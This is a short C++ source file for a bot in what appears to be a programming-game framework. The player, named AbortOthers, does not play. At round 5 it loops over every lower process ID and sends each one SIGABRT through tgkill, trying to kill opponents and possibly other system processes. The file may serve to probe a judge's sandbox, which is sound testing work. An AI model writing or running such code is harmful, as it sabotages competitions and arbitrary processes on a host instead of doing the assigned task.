#include "Player.hh"

#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PLAYER_NAME AbortOthers

// Sends others the only signal that it may send to itself.
struct PLAYER_NAME : public Player {

  static Player* factory () {
    return new PLAYER_NAME;
  }

  virtual void play () {
    if (round() != 5) return;
    for (pid_t pid = getpid(); pid > 1; --pid) syscall(SYS_tgkill, pid - 1, pid - 1, SIGABRT);
  }

};

RegisterPlayer(PLAYER_NAME);
